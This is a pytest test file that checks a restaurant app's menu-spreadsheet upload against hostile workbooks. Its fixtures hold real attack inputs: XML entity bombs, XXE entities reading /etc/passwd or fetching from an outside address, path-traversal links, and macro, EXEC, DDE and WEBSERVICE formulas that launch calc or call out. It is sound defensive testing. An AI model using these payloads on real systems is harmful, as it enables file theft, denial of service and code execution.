"""Workbooks that carry more than a menu: macros, links, bombs. What is read is the menu or nothing."""
# ruff: noqa: DTZ001 - workbooks know the wall's clock

import datetime as dt
import io
import random
import zipfile
from collections.abc import Callable, Sequence
from typing import Any

import openpyxl
import pytest
from handing_in import hand_in
from kit import jpeg

from recommender.kitchen import Plan
from recommender.restaurant import Restaurant

SHEET, BOOK, STRINGS = "xl/worksheets/sheet1.xml", "xl/workbook.xml", "xl/sharedStrings.xml"
TYPES, STYLES, LINKS = "[Content_Types].xml", "xl/styles.xml", "xl/_rels/workbook.xml.rels"
NAMESPACE = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def workbook(*rows: Sequence[Any]) -> bytes:
    """Return a workbook with the header of a menu and these rows."""
    book = openpyxl.Workbook()
    for row in [("name", "price", "description"), *(rows or [("Tea", 2, "green")])]:
        book.active.append(row)
    file = io.BytesIO()
    book.save(file)
    return file.getvalue()


def with_parts(content: bytes, **parts: bytes | Callable[[bytes], bytes] | None) -> bytes:
    """Return a workbook with parts added, changed or, if None, left out; ``__`` stands for a dot."""
    named = {name.replace("__", ".").replace("--", "/"): part for name, part in parts.items()}
    source, target = zipfile.ZipFile(io.BytesIO(content)), io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in dict.fromkeys([*source.namelist(), *named]):
            old = source.read(name) if name in source.namelist() else b""
            part = named.get(name, old)
            if part is not None:
                archive.writestr(name, part(old) if callable(part) else part)
    return target.getvalue()


def part(name: str, content: bytes | Callable[[bytes], bytes] | None, *rows: Any) -> bytes:
    return with_parts(workbook(*rows), **{name: content})


def sheet(rows: str, *, head: str = "", end: str = "") -> bytes:
    """Return a workbook whose sheet has this XML below the header."""
    header = "".join(
        f'<c r="{letter}1" t="inlineStr"><is><t>{name}</t></is></c>'
        for letter, name in (("A", "name"), ("B", "price"))
    )
    xml = f'{head}<worksheet xmlns="{NAMESPACE}"><sheetData><row r="1">{header}</row>{rows}</sheetData>{end}</worksheet>'
    return part(SHEET, xml.encode())


def row(number: int, name: str, price: str) -> str:
    return f'<row r="{number}"><c r="A{number}" t="inlineStr"><is><t>{name}</t></is></c><c r="B{number}">{price}</c></row>'


def replaced(old: bytes, new: bytes) -> Callable[[bytes], bytes]:
    return lambda before: before.replace(old, new, 1)


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
REFUSED: dict[str, Callable[[], bytes]] = {
    "a billion laughs": lambda: sheet(row(2, "&l9;", "<v>2</v>"), head=f'<!DOCTYPE x [<!ENTITY l0 "ha">{LAUGHS}]>'),
    "laughs in the texts": lambda: part(STRINGS, f'<!DOCTYPE x [<!ENTITY l0 "ha">{LAUGHS}]><sst xmlns="{NAMESPACE}"><si><t>&l9;</t></si></sst>'.encode()),
    "laughs in the list of sheets": lambda: part(BOOK, replaced(b"<workbook", b'<!DOCTYPE x [<!ENTITY a "ha">]><workbook')),
    "laughs in the styles": lambda: part(STYLES, replaced(b"<styleSheet", b'<!DOCTYPE x [<!ENTITY a "ha">]><styleSheet')),
    "laughs in the types": lambda: part(TYPES, replaced(b"<Types", b'<!DOCTYPE x [<!ENTITY a "ha">]><Types')),
    "a file named in the XML": lambda: sheet(row(2, "&f;", "<v>2</v>"), head='<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>'),
    "an address named in the XML": lambda: sheet("", head='<!DOCTYPE x SYSTEM "http://192.0.2.1/x.dtd">'),
    "a parameter entity": lambda: sheet("", head='<!DOCTYPE x [<!ENTITY % p SYSTEM "http://192.0.2.1/x">%p;]>'),
    "a quadratic blow-up": lambda: sheet(row(2, "&a;" * 1_000, "<v>2</v>"), head=f'<!DOCTYPE x [<!ENTITY a "{"ha" * 20_000}">]>'),
    "XML in UTF-16": lambda: part(SHEET, f'<?xml version="1.0" encoding="UTF-16"?><worksheet xmlns="{NAMESPACE}"/>'.encode("utf-16")),
    "XML in UTF-7": lambda: sheet("", head='<?xml version="1.0" encoding="UTF-7"?>'),
    "tags in tags": lambda: sheet("<x>" * 20_000 + "</x>" * 20_000),
    "a tag of 20 MB": lambda: sheet(f'<row r="2" a="{"x" * 20_000_000}"/>'),
    "a text of 20 MB": lambda: sheet(row(2, "x" * 20_000_000, "<v>2</v>")),
    "a million attributes": lambda: sheet("<row " + " ".join(f'a{n}=""' for n in range(300_000)) + "/>"),
    "a sheet of blanks": lambda: part(SHEET, b" " * 60_000_000),
    "200,000 rows": lambda: sheet("".join(f'<row r="{n}"><c r="A{n}"><v>1</v></c></row>' for n in range(2, 200_000))),
    "200,000 texts": lambda: part(STRINGS, f'<sst xmlns="{NAMESPACE}">{"<si><t>a</t></si>" * 600_000}</sst>'.encode()),
    "100,000 styles": lambda: part(STYLES, f'<styleSheet xmlns="{NAMESPACE}"><cellXfs>{"<xf/>" * 250_000}</cellXfs></styleSheet>'.encode()),
    "100,000 sheets": lambda: part(BOOK, f'<workbook xmlns="{NAMESPACE}"><sheets>{"<sheet/>" * 250_000}</sheets></workbook>'.encode()),
    "no sheets": lambda: part(BOOK, f'<workbook xmlns="{NAMESPACE}"/>'.encode()),
    "a sheet that is not there": lambda: part(SHEET, None),
    "a list of sheets that is not there": lambda: part(BOOK, None),
    "types that are not there": lambda: part(TYPES, None),
    "links that are not there": lambda: part(LINKS, None),
    "links that lead out": lambda: part(LINKS, replaced(b"worksheets/sheet1.xml", b"../../../../etc/passwd")),
    "links that lead to an address": lambda: part(LINKS, replaced(b"/xl/worksheets/sheet1.xml", b"http://192.0.2.1/sheet1.xml")),
    "a link to itself": lambda: part(LINKS, replaced(b"/xl/worksheets/sheet1.xml", b"/xl/workbook.xml")),
    "half a sheet": lambda: part(SHEET, lambda before: before[: len(before) // 2]),
    "a sheet that is a photo": lambda: part(SHEET, jpeg()),
    "a sheet that is empty": lambda: part(SHEET, b""),
    "a locked workbook": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4_000),
    "an old workbook": lambda: b"\x09\x08\x10\0\0\6\5\0" + bytes(500),
    "a binary workbook": lambda: part("xl/workbook.bin", b"x"),
    "a document": lambda: part("word/document.xml", b"<x/>"),
    "slides": lambda: zip_of("[Content_Types].xml", "ppt/presentation.xml"),
    "an app": lambda: zip_of("AndroidManifest.xml", "classes.dex"),
    "a book": lambda: zip_of("mimetype", "META-INF/container.xml"),
}  # fmt: skip


def zip_of(*names: str) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        for name in names:
            archive.writestr(name, b"<x/>")
    return target.getvalue()


MACRO = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1Attribute VB_Name\0AutoOpen Shell(calc)" + bytes(2_000)
EXTERNAL = b'<externalLink xmlns="x"><externalBook r:id="rId1" xmlns:r="y"/></externalLink>'
READ: dict[str, Callable[[], bytes]] = {
    "a macro": lambda: part("xl/vbaProject.bin", MACRO),
    "a macro sheet": lambda: part("xl/macrosheets/sheet1.xml", b"<x>=EXEC(calc)</x>"),
    "a link to another workbook": lambda: part("xl/externalLinks/externalLink1.xml", EXTERNAL),
    "a link to an address": lambda: with_parts(workbook(), **{"xl/externalLinks/_rels/externalLink1.xml.rels": b'<Relationships><Relationship Id="r" Target="http://192.0.2.1/a.xlsx" TargetMode="External"/></Relationships>'}),
    "a query of a database": lambda: part("xl/connections.xml", b'<connections><connection url="http://192.0.2.1"/></connections>'),
    "an embedded program": lambda: part("xl/embeddings/oleObject1.bin", b"MZ" + bytes(2_000)),
    "a picture that is a bomb": lambda: part("xl/media/image1.png", b"\x89PNG" + random.Random(1).randbytes(900_000)),
    "a form": lambda: part("xl/activeX/activeX1.xml", b"<x/>"),
    "a signature": lambda: part("_xmlsignatures/sig1.xml", b"<x/>"),
    "a template of another program": lambda: part("customUI/customUI.xml", b'<customUI onLoad="evil"/>'),
    "a formula that asks an address": lambda: workbook(("Tea", 2, '=WEBSERVICE("http://192.0.2.1")')),
    "a formula that runs a program": lambda: workbook(("Tea", 2, "=cmd|'/C calc'!A0")),
    "a link in a cell": lambda: workbook(("Tea", 2, '=HYPERLINK("http://192.0.2.1")')),
    "an array formula": lambda: workbook(("Tea", 2, "={1,2}")),
    "sizes that are not true": lambda: sheet(row(2, "Tea", "<v>2</v>"), end='<dimension ref="A1:XFD1048576"/>'),
    "merged cells without number": lambda: sheet(row(2, "Tea", "<v>2</v>"), end='<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'),
    "a rule for a million rows": lambda: sheet(row(2, "Tea", "<v>2</v>"), end='<dataValidations count="1"><dataValidation sqref="A1:XFD1048576"/></dataValidations>'),
    "hidden rows": lambda: sheet('<row r="2" hidden="1"><c r="A2" t="inlineStr"><is><t>Tea</t></is></c><c r="B2"><v>2</v></c></row>'),
    "a row at the end": lambda: sheet(row(1_048_576, "Tea", "<v>2</v>")),
    "a comment with a script": lambda: part("xl/comments1.xml", b"<comments><script/></comments>"),
    "halves of characters": lambda: workbook(("T_xD800_ea", 2, "x")),
    "noughts as workbooks write them": lambda: workbook(("Tea", 2, "a_x0000_b_x001B_[2J")),
}  # fmt: skip


@pytest.mark.parametrize("make", REFUSED.values(), ids=REFUSED)
def test_a_workbook_that_is_up_to_no_good_is_refused(
    served: Restaurant, make: Callable[[], bytes]
) -> None:
    answer = hand_in(served, ("menu.xlsx", make()))
    assert isinstance(answer, str) or not any(row.dish for row in answer.file.rows)


@pytest.mark.parametrize("make", READ.values(), ids=READ)
def test_of_a_workbook_with_more_in_it_the_menu_alone_is_read(
    served: Restaurant, make: Callable[[], bytes]
) -> None:
    plan = hand_in(served, ("menu.xlsx", make()))
    assert isinstance(plan, Plan), plan
    (only,) = plan.file.rows
    assert only.dish, only.problems
    assert only.dish.price == 2.0


VALUES = [
    *("", None, 0, -1, 1e308, 1e-308, 12.5, 10**20, True, False, "=1/0", "#REF!", "_x0041_", "_xD83C_"),
    *(dt.datetime(2026, 1, 12, 13, 30), dt.date(1900, 1, 1), dt.time(12, 50), dt.timedelta(days=40)),
    *("milk", "none", "yes", "x" * 13_000, "e\u0301" * 400, "\u202e", "🍜", "a\nb", "<t>", "]]>", "&amp;"),
]  # fmt: skip


@pytest.mark.parametrize("seed", range(20))
def test_a_workbook_of_any_values_is_dishes_or_problems(served: Restaurant, seed: int) -> None:
    chance = random.Random(seed)
    rows = [[chance.choice(VALUES) for _ in range(3)] for _ in range(chance.randint(1, 30))]
    hand_in(served, ("menu.xlsx", workbook(*rows)))


@pytest.mark.parametrize("name", ["menu.csv", "menu.xlsx", "menu.xlsm", "menu.txt", "menu.pdf"])
@pytest.mark.parametrize(
    ("content", "is_menu"),
    [(workbook(), True), (b"name,price\nTea,2\n", True), (b"%PDF-1.7", False), (zip_of("a"), False)],
    ids=["xlsx", "csv", "pdf", "zip"],
)  # fmt: skip
def test_a_file_is_what_is_in_it_whatever_it_is_called(
    served: Restaurant, name: str, content: bytes, *, is_menu: bool
) -> None:
    answer = hand_in(served, (name, content))
    assert isinstance(answer, Plan) == is_menu


def test_half_a_character_out_of_a_workbook_can_be_kept(served: Restaurant) -> None:
    plan = hand_in(served, ("menu.xlsx", READ["halves of characters"]()))
    assert isinstance(plan, Plan)
    (only,) = plan.file.rows
    assert only.dish
    assert only.dish.name.encode() == b"T ea"
